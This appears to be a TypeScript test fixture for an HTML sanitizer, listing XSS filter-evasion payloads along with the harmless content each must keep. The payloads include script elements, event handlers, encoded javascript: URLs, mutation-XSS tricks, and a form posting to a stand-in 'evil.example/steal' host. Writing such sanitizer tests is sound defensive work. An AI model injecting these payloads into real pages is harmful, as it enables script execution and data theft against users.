/**
 * Hostile HTML of the kinds in OWASP's XSS filter-evasion cheat sheet, plus ways to make an
 * offline page load or navigate. `keep` is harmless content that must survive the sanitizer,
 * so that a sanitizer which drops everything cannot pass.
 */
export interface Payload {
  readonly name: string;
  readonly html: string;
  readonly keep?: string;
  /** False for payloads only their own assertions catch (they neither run nor load anything by themselves). */
  readonly scanned?: false;
}

export const PAYLOADS: readonly Payload[] = [
  { name: "script element", html: "<p>before</p><script>alert(1)</script>", keep: "<p>before</p>" },
  { name: "img onerror", html: '<img src=x onerror="alert(1)">', keep: "[image: x]" },
  { name: "svg onload", html: '<svg onload=alert(1)><rect width="5" height="5"></rect></svg>', keep: '<rect width="5" height="5">' },
  { name: "body onload", html: "<body onload=alert(1)>text</body>", keep: "text" },
  { name: "mixed-case tag and handler", html: '<ImG sRc=x OnErRoR=alert(1)><DiV oNmOuSeOvEr="alert(1)">hover</DiV>', keep: "hover" },
  { name: "handler without quotes or spaces", html: "<div/onclick=alert(1)>slash</div>", keep: "slash" },
  { name: "javascript: href", html: '<a href="javascript:alert(1)">link</a>', keep: "link" },
  { name: "JavaScript: in mixed case with spaces", html: '<a href=" JaVaScRiPt:alert(1)">link</a>', keep: "link" },
  { name: "entity-encoded javascript:", html: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">dec</a>', keep: "dec" },
  { name: "hex entities without semicolons", html: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">hex</a>', keep: "hex" },
  { name: "tab and newline inside javascript:", html: '<a href="jav&#x09;ascr&#x0A;ipt:alert(1)">tab</a>', keep: "tab" },
  { name: "javascript: in img src", html: '<img src="javascript:alert(1)" alt="pic">', keep: "pic" },
  { name: "javascript: in formaction", html: '<form><button formaction="javascript:alert(1)">go</button></form>', keep: "go" },
  { name: "form posting away", html: '<form action="https://evil.example/steal"><input name="q" value="secret"></form><p>after</p>', keep: "<p>after</p>" },
  { name: "data:text/html link", html: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>', keep: "data" },
  { name: "iframe with srcdoc", html: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe><p>x</p>', keep: "<p>x</p>" },
  { name: "iframe to javascript:", html: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: "object and embed", html: '<object data="https://evil.example/x.swf"></object><embed src="data:text/html,<script>alert(1)</script>">' },
  { name: "meta refresh", html: '<meta http-equiv="refresh" content="0;url=https://evil.example/">kept' , keep: "kept" },
  { name: "base href", html: '<base href="https://evil.example/"><a href="page.html">rel</a>', keep: '<a href="page.html">rel</a>' },
  { name: "remote stylesheet link", html: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: "style element with import", html: "<style>@import 'https://evil.example/x.css'; body{display:none}</style><p>shown</p>", keep: "<p>shown</p>" },
  { name: "style attribute expression()", html: '<div style="width: expression(alert(1)); color: red">css</div>', keep: "color:red" },
  { name: "style url(javascript:)", html: '<div style="background-image: url(javascript:alert(1))">bg</div>', keep: "bg" },
  { name: "style url() escaped as u\\72l", html: '<div style="background: u\\72l(https://evil.example/a.png)">esc</div>', keep: "esc" },
  { name: "remote image", html: '<img src="https://evil.example/track.png" alt="tracker">', keep: "[image: tracker]" },
  { name: "protocol-relative image and srcset", html: '<img src="//evil.example/a.png" srcset="https://evil.example/b.png 2x" alt="pr">', keep: "[image: pr]" },
  { name: "svg image and use from the network", html: '<svg><image href="https://evil.example/a.png"></image><use href="https://evil.example/s.svg#x"></use><circle r="3"></circle></svg>', keep: '<circle r="3">' },
  { name: "svg animate setting href", html: '<svg><a><animate attributeName="href" values="javascript:alert(1)"></animate><text x="1">t</text></a></svg>', keep: "t</text>" },
  { name: "svg foreignObject", html: '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>' },
  { name: "remote fill paint server", html: '<svg><rect fill="url(https://evil.example/p.svg#g)" width="2"></rect></svg>', keep: 'width="2"' },
  { name: "nested broken script", html: "<scr<script>ipt>alert(1)</scr</script>ipt>" },
  { name: "noscript mutation (mXSS)", html: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: "math/style namespace confusion", html: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>" },
  { name: "details ontoggle", html: "<details open ontoggle=alert(1)><summary>more</summary></details>", keep: "<summary>more</summary>" },
  { name: "video poster and audio", html: '<video poster="https://evil.example/p.png"></video><audio src="https://evil.example/a.mp3"></audio>' },
  { name: "forged litml anchors and live-chart hooks", html: '<div id="litml-spec-1" data-litml-spec="litml-spec-1">spoof</div>', keep: "spoof", scanned: false },
  { name: "position:fixed overlay", html: '<div style="position:fixed;top:0;left:0;width:100%;height:100%;color:blue">cover</div>', keep: "color:blue", scanned: false },
];
